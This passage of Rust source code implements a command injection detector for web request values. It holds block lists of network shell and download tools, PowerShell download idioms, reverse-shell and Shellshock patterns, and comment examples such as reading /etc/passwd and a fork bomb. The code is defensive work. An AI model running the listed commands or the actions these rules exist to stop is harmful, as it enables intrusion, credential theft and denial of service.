//! OS command injection: a shell separator or substitution (`;` `|` `&&` `||` newline `$(` a
//! backtick) followed by a command. Common English words that are also commands (`cat`, `sleep`,
//! `id`) only count with the arguments an attacker gives them (`cat /etc/passwd`, `sleep 5`, `id`
//! at the end), so "Tom & Jerry; cat lovers" is not an attack.

use super::signals::WordSet;
use super::{Detector, Hit, Normalized, Place, CRITICAL, ERROR};

/// Commands that nobody types into a form field. (a `match`: a length switch, then one comparison)
fn rare(word: &str) -> bool {
    matches!(
        word,
        "whoami"
            // Compilers, editors, archivers, network and system tools an attacker chains after a
            // separator; none is an English word.
            | "c89"
            | "c99"
            | "gcc"
            | "clang"
            | "vim"
            | "nano"
            | "flock"
            | "base32"
            | "xargs"
            | "gawk"
            | "mawk"
            | "bsdtar"
            | "gunzip"
            | "gzip"
            | "bzip2"
            | "unzip"
            | "nohup"
            | "setsid"
            | "strace"
            | "ltrace"
            | "gdb"
            | "tcpdump"
            | "nmap"
            | "ssh"
            | "scp"
            | "sftp"
            | "tftp"
            | "rsync"
            | "openssl"
            | "lua"
            | "luajit"
            | "tclsh"
            | "jrunscript"
            | "jjs"
            | "irb"
            | "python2"
            | "npx"
            | "pip3"
            | "dpkg"
            | "systemctl"
            | "iptables"
            | "killall"
            | "pkill"
            | "pgrep"
            | "mknod"
            | "chattr"
            | "wmic"
            | "mshta"
            | "rundll32"
            | "regsvr32"
            | "cscript"
            | "wscript"
            | "msiexec"
            | "schtasks"
            | "taskkill"
            | "sqlite3"
            | "psql"
            | "uname"
            | "ifconfig"
            | "ipconfig"
            | "netstat"
            | "wget"
            | "curl"
            | "bash"
            | "sh"
            | "zsh"
            | "ksh"
            | "csh"
            | "dash"
            | "nc"
            | "ncat"
            | "netcat"
            | "telnet"
            | "python"
            | "python3"
            | "perl"
            | "ruby"
            | "php"
            | "node"
            | "powershell"
            | "pwsh"
            | "cmd"
            | "cmd.exe"
            | "certutil"
            | "bitsadmin"
            | "chmod"
            | "chown"
            | "passwd"
            | "useradd"
            | "systeminfo"
            | "tasklist"
            | "nslookup"
            | "dig"
            | "traceroute"
            | "base64"
            | "xxd"
            | "busybox"
            | "rm"
            | "mkfifo"
            | "crontab"
            | "sudo"
            | "su"
            | "socat"
            | "msfconsole"
            | "lastlog"
            | "lastlogin"
            | "rmt"
            | "cscli"
            | "visudo"
            | "pipx"
            | "ssh-copy-id"
            | "lwp-download"
            | "aa-exec"
            | "aa-disable"
    ) || {
        // Families of tools named by their first part: `ansible-playbook`, `chef-client`,
        // `rmt-tar`.
        word.starts_with("ansible") && matches!(word.as_bytes().get(7), None | Some(b'-'))
            || word.starts_with("chef-")
            || word.starts_with("rmt-")
    }
}

/// A rare command, also with a version number glued on (`python3.10`, `gcc7.4`).
fn rare_cmd(word: &str) -> bool {
    rare(word) || {
        let base = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        base.len() >= 2 && base.len() < word.len() && rare(base)
    }
}

/// Words that run the command after them (`time sh -c id`, `strace whoami`): the command that
/// matters is the next word that is not an option or a number.
fn prefix(word: &str) -> bool {
    matches!(
        word,
        "time"
            | "timeout"
            | "strace"
            | "ltrace"
            | "nohup"
            | "cpulimit"
            | "sudo"
            | "xargs"
            | "setsid"
            | "stdbuf"
            | "unbuffer"
            | "chroot"
            | "eval"
    )
}

/// Past a prefix word and its options: the command it runs, and what follows that.
fn prefixed(mut rest: &str) -> (&str, &str) {
    for _ in 0..6 {
        let r = rest.trim_start_matches([' ', '\t']);
        let end = r.find([' ', '\t', ';', '|', '&', '\n']).unwrap_or(r.len());
        let token = &r[..end];
        if token.starts_with('-')
            || (!token.is_empty() && token.bytes().all(|b| b.is_ascii_digit()))
        {
            rest = &r[end..];
            continue;
        }
        return command_word(r);
    }
    ("", "")
}

/// Commands that are also words: they need attacker-shaped arguments. (a `match`: a length switch, then one comparison)
fn wordlike(word: &str) -> bool {
    matches!(
        word,
        "cat"
            | "cd"
            | "ls"
            | "id"
            | "sleep"
            | "ping"
            | "echo"
            | "env"
            | "set"
            | "type"
            | "dir"
            | "more"
            | "less"
            | "head"
            | "tail"
            | "find"
            | "kill"
            | "who"
            | "ps"
            | "printenv"
            | "expr"
    )
}

fn command_word(s: &str) -> (&str, &str) {
    // Every byte looked at is ASCII, so the cuts below fall on character boundaries; read as
    // bytes, since this runs after every separator of every woken value.
    let b = s.as_bytes();
    let start = b
        .iter()
        .position(|c| !matches!(c, b' ' | b'\t' | b'"' | b'\'' | b'(' | b'{'))
        .unwrap_or(b.len());
    let len = b[start..]
        .iter()
        .position(|c| {
            !(c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-' | b'\\'))
        })
        .unwrap_or(b.len() - start);
    let (word, rest) = s[start..].split_at(len);
    // `/bin/cat`, `/usr/bin/id`, `c:\windows\system32\cmd.exe`.
    let base = match word.bytes().rposition(|c| c == b'/' || c == b'\\') {
        Some(p) => &word[p + 1..],
        None => word,
    };
    (base, rest)
}

fn attacker_args(word: &str, rest: &str) -> bool {
    let args = rest.trim_start();
    match word {
        "sleep" | "ping" => args.starts_with(|c: char| c.is_ascii_digit() || c == '-'),
        "id" | "who" | "ps" | "env" | "printenv" | "set" | "ls" | "dir" => {
            args.is_empty() || args.starts_with(['-', '/', ';', '|', '&', '`', '$', '\'', '"', '#'])
        }
        _ => args.starts_with(['/', '-', '~', '$', '.', '\\', '%']) || args.starts_with("c:"),
    }
}

/// PowerShell verbs and idioms that download or run code.
pub(crate) static POWERSHELL: WordSet = WordSet::new(&[
    "invoke-webrequest",
    "invoke-expression",
    "invoke-command",
    "invoke-wmimethod",
    "iex(",
    "iex ",
    "iwr ",
    "iwmi ",
    "start-process",
    "downloadstring",
    "downloadfile",
    "new-object net.webclient",
    "-encodedcommand",
    "frombase64string",
]);

/// The shell's own view of a value: quotes, backslashes and carets removed, as `c'a't`,
/// `ca\t` and `w^hoami` all run the same command; so are expansions that give nothing (`$*`,
/// `$@`, `$()`, `${}`, and `$u` or `$_` glued to a word: `c$*at`, `uname$u -a`).
fn unquoted(l: &str) -> Option<String> {
    let special = |c: &u8| matches!(c, b'\'' | b'"' | b'\\' | b'^' | b'$');
    let b = l.as_bytes();
    let mut i = b.iter().position(special)?;
    let mut out = String::with_capacity(l.len());
    let mut changed = false;
    let mut run = 0;
    // Copy the runs between the (ASCII, so boundary-safe) special bytes.
    loop {
        out.push_str(&l[run..i]);
        let skip = match b[i] {
            b'$' => empty_expansion(&b[i..], i > 0 && b[i - 1].is_ascii_alphanumeric()),
            _ => 1,
        };
        changed |= skip > 0;
        run = if skip > 0 { i + skip } else { i };
        let from = i + skip.max(1);
        match b[from.min(b.len())..].iter().position(special) {
            Some(n) => i = from + n,
            None => break,
        }
    }
    out.push_str(&l[run.min(l.len())..]);
    changed.then_some(out)
}

/// The length of an expansion at the start of `b` that the shell turns into nothing.
fn empty_expansion(b: &[u8], glued: bool) -> usize {
    match (b.get(1), b.get(2)) {
        (Some(b'*' | b'@'), _) => 2,
        // Last background job and last status: nothing, or a digit, between letters.
        (Some(b'!' | b'?'), Some(n)) if glued && n.is_ascii_alphabetic() => 2,
        (Some(b'('), Some(b')')) | (Some(b'{'), Some(b'}')) => 3,
        // A one-letter variable nobody set, inside or at the end of a word.
        (Some(c), next)
            if glued
                && (c.is_ascii_lowercase() || *c == b'_')
                && !next.is_some_and(|n| n.is_ascii_alphanumeric()) =>
        {
            2
        }
        (Some(b'_'), Some(n)) if glued && n.is_ascii_alphabetic() => 2,
        _ => 0,
    }
}

/// Whether the value's first word is spelled so that only the shell reads it as a command:
/// a quote, escape or empty expansion between its letters (`'wh'oami`, `"w"get`, `uname$u`).
/// Quotes around a whole word do not count.
fn disguised_first_word(l: &str) -> bool {
    // One pass over the first word: it is the whole value when the value is a URL or a token,
    // and this runs on every JSON string that wakes the shell checks.
    let (mut letters, mut quote_since) = (false, false);
    for &c in l.trim_start().as_bytes() {
        match c {
            b' ' | b'\t' => break,
            // An expansion may also end the word (`ping$()`); quotes must sit inside it.
            b'$' if letters => return true,
            b'\'' | b'"' | b'\\' | b'^' if letters => quote_since = true,
            c if c.is_ascii_alphanumeric() => {
                if quote_since {
                    return true;
                }
                letters = true;
            }
            _ => {}
        }
    }
    false
}

/// cmd.exe's `IF`, at the start of a value or after a separator (`c` has whitespace runs
/// collapsed): the conditionals (`IF EXIST file CMD`, `IF NOT EXIST`, `IF ERRORLEVEL 1`), which
/// count anywhere, and the comparisons (`if %a% gtr %b% echo`, `if not (2 equ 2) echo hey`,
/// `IF "%var%"=="" (SET var=x)`: an operator, then a batch command or a block), which are
/// `comparison`.
fn cmd_if(c: &str) -> Option<&'static str> {
    const CONDS: [&str; 8] = [
        "exist ",
        "not exist ",
        "errorlevel ",
        "defined ",
        "not defined ",
        "not errorlevel ",
        "/i ",
        "cmdextversion ",
    ];
    const OPS: [&str; 7] = ["==", " equ ", " neq ", " lss ", " leq ", " gtr ", " geq "];
    const VERBS: [&str; 14] = [
        "echo", "set", "goto", "call", "cmd", "cd", "exit", "del", "copy", "start", "move",
        "mkdir", "rmdir", "type",
    ];
    // The first few statements only: each comparison is searched to the end of the value.
    for p in if_finder()
        .find_iter(c.as_bytes())
        .filter(|p| opens_at(c, *p))
        .take(4)
    {
        let rest = &c[p + 3..];
        if CONDS.iter().any(|cond| rest.starts_with(cond)) {
            return Some("cmd-conditional");
        }
        // Batch syntax, not prose: `==` glued to an operand (`red==red`), or `%var%` or quotes
        // in the statement.
        let batch = rest.contains(['%', '"']);
        // `IF "%1"=="/?"`, `if [%1]==[]`, `if not {%1} == {}`: operands quoted or bracketed the
        // way batch files guard against empty ones, with a `%` parameter: batch whatever follows.
        let guarded = rest.contains('%')
            && ["\"==", "]==", "}==", "\" ==", "] ==", "} =="]
                .iter()
                .any(|g| rest.contains(g));
        if guarded {
            return Some("comparison");
        }
        let compared = first_of_each(rest, &OPS)
            .into_iter()
            .zip(OPS.iter())
            .filter_map(|(i, op)| i.map(|i| (i, op)))
            .filter(|(i, op)| {
                **op != "=="
                    || batch
                    || rest[..*i].ends_with(|c: char| c != ' ')
                    || rest[i + 2..].starts_with(|c: char| c != ' ')
            })
            .map(|(i, op)| &rest[i + op.len()..])
            .any(|after| {
                after.trim_end().ends_with('(')
                    || after
                        .split([' ', '(', ')', '@'])
                        .skip(1)
                        .any(|w| VERBS.contains(&w))
            });
        if compared {
            return Some("comparison");
        }
    }
    None
}

/// Where each of `ops` (`==`, or a space, three letters and a space) first occurs in `s`, in
/// one pass: a substring search per operator built a searcher each, seven per `if` in prose.
fn first_of_each(s: &str, ops: &[&str; 7]) -> [Option<usize>; 7] {
    let b = s.as_bytes();
    let mut first = [None; 7];
    for i in 0..b.len() {
        let here = match b[i] {
            b'=' if b.get(i + 1) == Some(&b'=') => 0..1,
            b' ' if b.get(i + 4) == Some(&b' ') => 1..ops.len(),
            _ => continue,
        };
        for k in here {
            if first[k].is_none() && b[i..].starts_with(ops[k].as_bytes()) {
                first[k] = Some(i);
            }
        }
    }
    first
}

fn opens_at(c: &str, p: usize) -> bool {
    let before = c[..p].trim_end_matches([' ', '@']);
    before.is_empty() || before.ends_with(['&', '|', ';', '\n', '('])
}

/// Shapes that are commands wherever they stand, no separator needed: a shell started with `-c`
/// or interactively, a reverse shell's `/dev/tcp/`, netcat told to run a program, a Shellshock
/// function definition, brace expansion around a command, an `alias` definition, a first word
/// spelled so that only the shell reads it, a command run by `time` or `strace`.
/// `:(){ :|:& };:`, `f() { f|f& }; f`: a shell function piping into itself in the background,
/// doubling until the process table is full. `paren` is the offset of its `()`.
fn fork_bomb(l: &str, paren: usize) -> bool {
    // Each read is bounded (a name of 32 bytes, `{` within 4, a body of 256): a value of many
    // `(){` is read once over, not from each to its end.
    let b = l.as_bytes();
    let name_start = b[paren.saturating_sub(33)..paren]
        .iter()
        .rposition(|c| c.is_ascii_whitespace() || *c == b';')
        .map_or(paren.saturating_sub(33), |p| {
            paren.saturating_sub(33) + p + 1
        });
    let name = &b[name_start..paren];
    if name.is_empty() || name.len() > 32 {
        return false;
    }
    let Some(open) = memchr::memchr(b'{', &b[paren..b.len().min(paren + 6)]) else {
        return false;
    };
    let body_start = paren + open + 1;
    let Some(close) = memchr::memchr(b'}', &b[body_start..b.len().min(body_start + 256)]) else {
        return false;
    };
    let Ok(name) = std::str::from_utf8(name) else {
        return false;
    };
    let body: String = l[body_start..body_start + close]
        .chars()
        .filter(|c| !c.is_whitespace())
        .collect();
    body.contains(&format!("{name}|{name}"))
}

fn standalone(l: &str, u: Option<&str>, place: Place) -> Option<&'static str> {
    let t = l.trim_start();
    let (mut netcat, mut option) = (None, false);
    let b = l.as_bytes();
    // The marks the shapes need start with `-`, `/` or `(`, which prose seldom has: memchr
    // finds them without looking at each byte in turn.
    for at in memchr::memchr3_iter(b'-', b'/', b'(', b) {
        let space_before = at > 0 && b[at - 1] == b' ';
        match b[at] {
            b'-' if space_before => {
                if shell_flag(l, at - 1) {
                    return Some("shell-invocation");
                }
                option = true;
            }
            b'/' if space_before
                && matches!(b.get(at + 1), Some(b'c' | b'k'))
                && shell_flag(l, at - 1) =>
            {
                return Some("shell-invocation");
            }
            b'/' if l[at..].starts_with("/dev/tcp/") || l[at..].starts_with("/dev/udp/") => {
                return Some("reverse-shell");
            }
            b'(' if l[at..].starts_with("(){") && fork_bomb(l, at) => {
                return Some("fork-bomb");
            }
            b'(' if l[at..].starts_with("() {") => {
                if fork_bomb(l, at) {
                    return Some("fork-bomb");
                }
                // `() { :; };` anywhere; a bare `() {` only opening a header or cookie, which
                // a CGI server turns into an environment variable that bash runs.
                let shock = l[at + 4..].trim_start().starts_with(":;")
                    || at == l.len() - t.len() && matches!(place, Place::Header | Place::Cookie);
                if shock {
                    return Some("shellshock");
                }
            }
            _ => {}
        }
    }
    let brace = memchr::memchr(b'{', b).map(|at| at + 1);
    // Netcat only matters with an option to give it.
    if option {
        netcat = ["nc ", "ncat ", "netcat "].iter().find_map(|w| {
            l.match_indices(w)
                .find(|(at, _)| *at == 0 || !b[at - 1].is_ascii_alphanumeric())
                .map(|(at, _)| at + w.len())
        });
    }
    if let (Some(end), true) = (netcat, option) {
        let exec = l[end..].split([' ', '\t']).any(|a| {
            matches!(a, "-e" | "-c" | "--exec" | "--sh-exec")
                || a.starts_with('-') && a.len() <= 6 && a.contains('l') && a.contains('p')
        });
        if exec {
            return Some("netcat-exec");
        }
    }
    if let Some(p) = brace {
        // `{cat,/etc/passwd}`, and `{,ifconfig}` (a leading comma makes any list expand).
        let inner = l[p..].trim_start_matches(',');
        let led = inner.len() < l.len() - p;
        let (word, rest) = command_word(inner);
        if let Some(args) = rest.strip_prefix(',') {
            if rare_cmd(word) || wordlike(word) && attacker_args(word, args) {
                return Some("brace-expansion");
            }
        } else if led && rest.starts_with('}') && rare_cmd(word) {
            return Some("brace-expansion");
        }
    }
    // A here-string feeding a command to a shell or a substitution: `cat<<<'ifconfig' | sh`.
    if let Some(p) = memchr::memchr(b'<', b)
        .and_then(|at| memchr::memmem::find(&b[at..], b"<<<").map(|p| at + p))
    {
        let (word, _) = command_word(&l[p + 3..]);
        if rare_cmd(word) || wordlike(word) {
            return Some("here-string");
        }
    }
    if let Some(def) = t.strip_prefix("alias ") {
        // Past options (`alias -p x=id`, `alias +m a=b`).
        let mut def = def.trim_start();
        while def.starts_with(['-', '+']) {
            def = def[def.find(' ').unwrap_or(def.len())..].trim_start();
        }
        let name_end = def.find('=').unwrap_or(0);
        if name_end > 0
            && def[..name_end].bytes().all(|b| {
                b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'\'' | b'"')
            })
        {
            return Some("alias-definition");
        }
    }
    if disguised_first_word(t) {
        if let Some(u) = u {
            let (word, rest) = command_word(u.trim_start());
            let args = rest.trim_start();
            if rare_cmd(word) && boundary(rest)
                || wordlike(word) && attacker_args(word, rest) && !args.is_empty()
            {
                return Some("disguised-command");
            }
        }
    }
    if place == Place::JsonString {
        return None;
    }
    // `/usr/bin/python3 -m http.server`, `/bin/unxz -c file`: a program named by its path in a
    // system folder, given arguments.
    for dir in [
        "/bin/",
        "/usr/bin/",
        "/sbin/",
        "/usr/sbin/",
        "/usr/local/bin/",
    ] {
        if let Some(cmd) = t.strip_prefix(dir) {
            let end = cmd.find([' ', '\t']).unwrap_or(cmd.len());
            let name_ok = end > 0
                && cmd[..end]
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'));
            if name_ok && cmd[end..].trim_start().starts_with(['-', '/', '\'', '"']) {
                return Some("system-binary");
            }
        }
    }
    if !place.is_free_text() && command_line(view_of(t, u)) {
        return Some("command-line");
    }
    if !place.is_free_text() && bin_path(t) {
        return Some("command-path");
    }
    if sqlite_dot_command(l) {
        return Some("sqlite-dot-command");
    }
    // `time sh -c id`, and the prefix disguised: `ti''me who`, `"time" who`.
    let view = u.map_or(t, str::trim_start);
    if !prefix(first_word(view.trim_start_matches(['"', '\'']))) {
        return None;
    }
    let (_, rest) = command_word(view);
    let (word, rest) = prefixed(rest);
    (rare_cmd(word) && boundary(rest) || wordlike(word) && attacker_args(word, rest))
        .then_some("prefixed-command")
}

/// The whole value is a program in a system folder (`/bin/ab`, `bin/ansible`,
/// `/usr/sbin/visudo`): what a command parameter is probed with.
fn bin_path(t: &str) -> bool {
    let t = t.trim_end();
    let rest = t.trim_start_matches('/');
    let rest = rest
        .strip_prefix("usr/local/")
        .or_else(|| rest.strip_prefix("usr/"))
        .unwrap_or(rest);
    let name = rest
        .strip_prefix("bin/")
        .or_else(|| rest.strip_prefix("sbin/"));
    name.is_some_and(|n| {
        !n.is_empty()
            && n.as_bytes()[0].is_ascii_alphabetic()
            && n.bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'))
    })
}

/// SQLite's shell reads lines starting with `.` as its own commands (`.shell`, `.system`,
/// `.databases`): after a separator, one of them is a command run through `sqlite3`.
fn sqlite_dot_command(l: &str) -> bool {
    l.match_indices([';', '\n']).any(|(p, _)| {
        let rest = l[p + 1..]
            .trim_start()
            .trim_start_matches(['"', '\'', '\\']);
        rest.strip_prefix('.').is_some_and(|r| {
            let r = r.trim_start_matches(['"', '\'', '\\']);
            let word = r
                .find(|c: char| !c.is_ascii_alphanumeric())
                .unwrap_or(r.len());
            matches!(
                &r[..word],
                "shell"
                    | "system"
                    | "sh"
                    | "databases"
                    | "tables"
                    | "import"
                    | "output"
                    | "once"
                    | "read"
                    | "dump"
                    | "open"
                    | "load"
            )
        })
    })
}

/// The value as the shell reads it, where quotes or escapes changed it.
fn view_of<'a>(t: &'a str, u: Option<&'a str>) -> &'a str {
    u.map_or(t, str::trim_start)
}

/// Tools whose name is no word of any language and that nobody types into a form field: named
/// alone, they are a command line.
fn unmistakable(word: &str) -> bool {
    matches!(
        word,
        "whoami"
            | "visudo"
            | "cscli"
            | "ifconfig"
            | "ipconfig"
            | "systeminfo"
            | "tasklist"
            | "netstat"
            | "uname"
            | "lastlog"
            | "msfconsole"
            | "certutil"
            | "bitsadmin"
            | "ssh-copy-id"
    ) || word.len() > 8 && (word.starts_with("ansible-") || word.starts_with("chef-"))
}

/// An option as a command takes it: `-m`, `-la`, `--version`, not `-to-head` or `-5`.
fn option_token(tok: &str) -> bool {
    let tok = tok.trim_end_matches(['\'', '"']);
    if let Some(long) = tok.strip_prefix("--") {
        return long.len() >= 2
            && long.as_bytes()[0].is_ascii_alphabetic()
            && long.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-');
    }
    tok.strip_prefix('-').is_some_and(|short| {
        (1..=4).contains(&short.len()) && short.bytes().all(|b| b.is_ascii_alphabetic())
    })
}

/// The whole value is a command line (outside free text): a tool no form field names, given an
/// option or a path (`ansible all -m ping`, `gunzip -c /var/log/x.gz`) or alone if its name is
/// unmistakable (`visudo`, `cscli alerts list`, `ansible-config dump`). Of the commands that are
/// also words only those seldom written with an option in prose count (`env --version`, `find
/// /etc -name passwd`), so "head -to-head" and "set 8 -mini as" pass, and a line with three
/// words of prose is a sentence about a command.
fn command_line(t: &str) -> bool {
    let (word, rest) = command_word(t);
    if word.is_empty() || !boundary(rest) {
        return false;
    }
    let args = || {
        rest.split([' ', '\t'])
            .filter(|a| !a.is_empty())
            .take(8)
            .any(|a| {
                option_token(a)
                    || a.len() > 1
                        && (a.starts_with('/') && a.as_bytes()[1].is_ascii_alphabetic()
                            || a.starts_with("~/"))
            })
    };
    if unmistakable(word) {
        return true;
    }
    let limit = if rare_cmd(word) {
        2
    } else if matches!(word, "cat" | "ls" | "env" | "printenv" | "ping" | "find") {
        // `ping -c means count`: a word-like command needs fewer.
        1
    } else {
        return false;
    };
    // A sentence about a command ("ls -la shows hidden files") has words a command line lacks.
    super::prose_words(rest) <= limit && args()
}

/// What may follow a command's name: nothing, a space, or shell syntax.
fn boundary(rest: &str) -> bool {
    rest.is_empty()
        || rest.starts_with([
            ' ', '\t', '\n', '\r', ';', '|', '&', '$', '<', '>', '\'', '"', ')', '`',
        ])
}

/// `sh -c`, `bash -i`, `/bin/sh -c`, `${SHELL} -c`, `cmd /c`, `cmd.exe /k`: the option at `i`
/// (a space, then `-` or `/`) given to a shell.
fn shell_flag(l: &str, i: usize) -> bool {
    const SHELLS: [&str; 11] = [
        "sh", "bash", "zsh", "ksh", "dash", "csh", "tcsh", "ash", "${shell}", "$shell", "busybox",
    ];
    let dash = l.as_bytes()[i + 1] == b'-';
    let flag = &l[i + 2..];
    let flag_end = flag
        .find(|c: char| !c.is_ascii_alphabetic())
        .unwrap_or(flag.len());
    let ok_flag = if dash {
        matches!(
            &flag[..flag_end],
            "c" | "i" | "ic" | "ci" | "lc" | "li" | "il"
        )
    } else {
        matches!(&flag[..flag_end], "c" | "k")
    };
    let after_ok = flag[flag_end..].is_empty()
        || flag[flag_end..].starts_with([' ', '\'', '"', '>', '<', '\t']);
    if !ok_flag || !after_ok {
        return false;
    }
    let before = l[..i].trim_end_matches(' ');
    // By char: the character before the word may be longer than one byte.
    let start = before
        .char_indices()
        .rev()
        .find(|(_, c)| {
            !(c.is_ascii_alphanumeric()
                || matches!(c, '/' | '.' | '_' | '-' | '$' | '{' | '}' | '\\'))
        })
        .map_or(0, |(p, c)| p + c.len_utf8());
    let word = &before[start..];
    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
    if dash {
        SHELLS.contains(&base)
    } else {
        matches!(base, "cmd" | "cmd.exe")
    }
}

/// Outside JSON text, what wakes this detector besides the signals' triggers: quotes or escapes
/// (a disguised command), a cmd.exe `if`, a value starting with a word that runs the next one.
/// Kept out of the shared triggers so that JSON prose, full of apostrophes and "if", does not
/// pay for rules that do not apply to it.
pub fn outside_json(l: &str) -> bool {
    l.bytes().any(|b| matches!(b, b'\'' | b'"' | b'\\' | b'^'))
        || if_finder().find(l.as_bytes()).is_some()
        || {
            let t = l.trim_start();
            let w = first_word(t);
            prefix(w)
                || w == "alias"
                || !w.is_empty() && {
                    let (word, _) = command_word(t);
                    rare_cmd(word) || wordlike(word) || unmistakable(word)
                }
                || ["/bin/", "/usr/", "/sbin/"]
                    .iter()
                    .any(|d| t.starts_with(d))
        }
}

/// The leading letters of `t`: enough to tell a prefix word or `alias`.
fn first_word(t: &str) -> &str {
    &t[..t
        .bytes()
        .position(|b| !b.is_ascii_alphabetic())
        .unwrap_or(t.len())]
}

/// Built once: `str::find` builds a searcher on every call.
fn powershell_finder() -> &'static memchr::memmem::Finder<'static> {
    static F: std::sync::OnceLock<memchr::memmem::Finder<'static>> = std::sync::OnceLock::new();
    F.get_or_init(|| memchr::memmem::Finder::new(b"powershell"))
}

fn if_finder() -> &'static memchr::memmem::Finder<'static> {
    static F: std::sync::OnceLock<memchr::memmem::Finder<'static>> = std::sync::OnceLock::new();
    F.get_or_init(|| memchr::memmem::Finder::new(b"if "))
}

pub fn check(v: &Normalized<'_>, place: Place, out: &mut Vec<Hit>) {
    inspect(v, place, true, out);
}

/// `triggered`: the value holds one of the signals' triggers for this detector. Without one,
/// the separator and substitution rules cannot match the value as it stands, only its
/// unquoted view.
pub fn inspect(v: &Normalized<'_>, place: Place, triggered: bool, out: &mut Vec<Hit>) {
    inspect_cued(v, place, triggered, None, out);
}

/// [`inspect`], given the trigger walk's mask (read from the lower-case view, so its cues
/// answer searches of that view only).
pub fn inspect_cued(
    v: &Normalized<'_>,
    place: Place,
    triggered: bool,
    cues: Option<u32>,
    out: &mut Vec<Hit>,
) {
    // Outside JSON text these are attacks; in a JSON string they may be a snippet in a
    // developer's message, which counts below the threshold on its own.
    let score = if place == Place::JsonString {
        ERROR
    } else {
        CRITICAL
    };
    match cmd_if(v.compact()) {
        Some("comparison") => {
            out.push(Hit::new(Detector::Cmdi, "cmd-conditional", score, 1));
            return;
        }
        Some(rule) => {
            out.push(Hit::new(Detector::Cmdi, rule, CRITICAL, 1));
            return;
        }
        None => {}
    }
    let l = v.lower.as_ref();
    let u = if place != Place::JsonString || disguised_first_word(l) {
        unquoted(l)
    } else {
        None
    };
    if let Some(rule) = standalone(l, u.as_deref(), place) {
        out.push(Hit::new(Detector::Cmdi, rule, score, 1));
        return;
    }
    let before = out.len();
    if triggered {
        check_view(l, place, cues, out);
    }
    if out.len() == before && place != Place::JsonString {
        if let Some(u) = &u {
            check_view(u, place, None, out);
        }
    }
}

/// `c=cat&&$c /etc/passwd`: a command named through a variable the value itself assigned.
fn variable_command(l: &str, after: &str) -> bool {
    let Some(var) = after.trim_start().strip_prefix('$') else {
        return false;
    };
    let var = var.trim_start_matches('{');
    let end = var
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .unwrap_or(var.len());
    if end == 0 || !var.as_bytes()[0].is_ascii_alphabetic() {
        return false;
    }
    let assign = format!("{}=", &var[..end]);
    l.match_indices(&assign)
        .any(|(p, _)| p == 0 || matches!(l.as_bytes()[p - 1], b';' | b'&' | b'|' | b' ' | b'\n'))
}

/// A backtick at `at` that opens inline code in free text: the value is prose (several words
/// outside the backticks), the backtick follows a space, and a closing one follows.
fn markdown_code(l: &str, at: usize, place: Place) -> bool {
    if !place.is_free_text() || at == 0 {
        return false;
    }
    if !l[..at].ends_with(' ') || !l[at + 1..].contains('`') {
        return false;
    }
    let mut inside = false;
    let mut words = 0;
    for part in l.split('`') {
        if !inside {
            words += part
                .split_whitespace()
                .filter(|w| w.len() > 1 && w.bytes().all(|b| b.is_ascii_alphabetic()))
                .count();
        }
        inside = !inside;
    }
    words >= 3
}

fn check_view(l: &str, place: Place, cues: Option<u32>, out: &mut Vec<Hit>) {
    // Which syntax is present at all, in one pass: most values of prose have none of it, and
    // each substring search below would otherwise run on them.
    const DOLLAR: u8 = 1;
    const PAREN: u8 = 2;
    const TICK: u8 = 4;
    const GT: u8 = 8;
    const PCT: u8 = 16;
    const SEPARATOR: u8 = 32;
    const SYNTAX: [u8; 256] = super::byte_flags(&[
        (b"$", DOLLAR | SEPARATOR),
        (b"(", PAREN),
        (b"`", TICK | SEPARATOR),
        (b">", GT),
        (b"%", PCT),
        (b";|&\n", SEPARATOR),
    ]);
    let f = super::flags_of(&SYNTAX, l.as_bytes());
    let (dollar, paren, tick) = (f & DOLLAR != 0, f & PAREN != 0, f & TICK != 0);
    let (gt, pct) = (f & GT != 0, f & PCT != 0);
    let powershell = match cues {
        Some(m) => m & super::signals::CUE_POWERSHELL != 0,
        None => POWERSHELL.found_in(l),
    };
    if powershell {
        out.push(Hit::new(Detector::Cmdi, "powershell", CRITICAL, 1));
        return;
    }
    if let Some(p) = powershell_finder().find(l.as_bytes()) {
        if l[p + 10..]
            .trim_start_matches(".exe")
            .trim_start()
            .starts_with(['-', '/', 'c'])
        {
            out.push(Hit::new(Detector::Cmdi, "powershell", CRITICAL, 1));
            return;
        }
    }
    // cmd.exe loops: `for /f %i in (...) do ...`.
    if let Some(p) = pct
        .then(|| l.find("for ").or_else(|| l.find("for/")))
        .flatten()
    {
        let rest = &l[p..];
        if rest.contains('%') && rest.contains(" in") && rest.contains("do") && rest.contains('(') {
            out.push(Hit::new(Detector::Cmdi, "cmd-for-loop", CRITICAL, 1));
            return;
        }
    }
    // Process substitution: `<(cat file)`, `>(tee log)`.
    for open in ["<(", ">("] {
        if let Some(p) = paren.then(|| l.find(open)).flatten() {
            let (word, _) = command_word(&l[p + 2..]);
            if rare(word) || wordlike(word) || word == "tee" {
                out.push(Hit::new(
                    Detector::Cmdi,
                    "process-substitution",
                    CRITICAL,
                    1,
                ));
                return;
            }
        }
    }
    if f & SEPARATOR == 0 {
        return;
    }
    // Bash arithmetic and parameter expansion tricks: `$((...))`, `$[..]`, `${x#...}`.
    if dollar && (l.contains("$((") || l.contains("$[")) {
        out.push(Hit::new(Detector::Cmdi, "shell-expansion", ERROR, 1));
        return;
    }
    // Substitution runs a command wherever it stands.
    for (open, present) in [("$(", dollar), ("`", tick), ("${ifs}", dollar)] {
        if let Some(p) = present.then(|| l.find(open)).flatten() {
            let (word, rest) = command_word(&l[p + open.len()..]);
            if rare(word) || (wordlike(word) && attacker_args(word, rest)) {
                if open == "`" && markdown_code(l, p, place) {
                    // Markdown's inline code (`ls -la`) in a sentence: only at paranoia 2.
                    out.push(Hit::new(Detector::Cmdi, "substitution-in-prose", ERROR, 2));
                } else {
                    out.push(Hit::new(Detector::Cmdi, "substitution", CRITICAL, 1));
                }
                return;
            }
        }
    }
    // Newlines are ordinary in JSON text. Separators are ASCII: looked for byte by byte.
    const SEPARATORS: [u8; 256] = super::byte_flags(&[(b";|&", 1), (b"\n", 2)]);
    let wanted = if place == Place::JsonString { 1 } else { 3 };
    let sep = |c: &u8| SEPARATORS[*c as usize] & wanted != 0;
    {
        let mut from = 0;
